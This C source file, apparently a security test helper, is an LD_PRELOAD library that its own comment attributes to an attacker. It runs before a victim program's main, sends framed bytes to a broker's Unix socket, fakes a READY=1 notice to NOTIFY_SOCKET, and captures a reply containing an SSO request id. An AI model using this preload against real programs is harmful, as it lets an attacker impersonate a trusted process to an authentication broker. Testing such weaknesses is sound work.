// SPDX-License-Identifier: Apache-2.0
// A library that an attacker preloads into another app's program. It sends the bytes of a file to a socket, sends
// READY=1 to NOTIFY_SOCKET, prints the answer and exits before the program's first line runs.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static struct sockaddr_un address(const char *path) {
    struct sockaddr_un result = {.sun_family = AF_UNIX};
    strncpy(result.sun_path, path, sizeof result.sun_path - 1);
    return result;
}

__attribute__((constructor)) static void ask(void) {
    const char *path = getenv("PEER_SOCKET"), *frames = getenv("PEER_FRAMES"), *notify = getenv("NOTIFY_SOCKET");
    if (!path || !frames || !notify) return;
    unsetenv("LD_PRELOAD");
    char bytes[65536];
    int file = open(frames, O_RDONLY);
    ssize_t count = read(file, bytes, sizeof bytes);
    struct sockaddr_un broker = address(path), manager = address(notify);
    int connection = socket(AF_UNIX, SOCK_STREAM, 0);
    if (count <= 0 || connect(connection, (struct sockaddr *)&broker, sizeof broker) != 0) _exit(2);
    if (write(connection, bytes, (size_t)count) != count) _exit(3);
    int notice = socket(AF_UNIX, SOCK_DGRAM, 0);
    sendto(notice, "READY=1", 7, 0, (struct sockaddr *)&manager, sizeof manager);
    ssize_t total = 0;
    while (total < (ssize_t)sizeof bytes - 1 && (count = read(connection, bytes + total, sizeof bytes - 1 - (size_t)total)) > 0) {
        for (ssize_t at = total; at < total + count; at++)
            if (!bytes[at]) bytes[at] = ' ';
        total += count;
        bytes[total] = 0;
        if (strstr(bytes, "sso_request_id")) break;
    }
    if (total == 0) strcpy(bytes, "ended");
    puts(bytes);
    fflush(stdout);
    _exit(0);
}
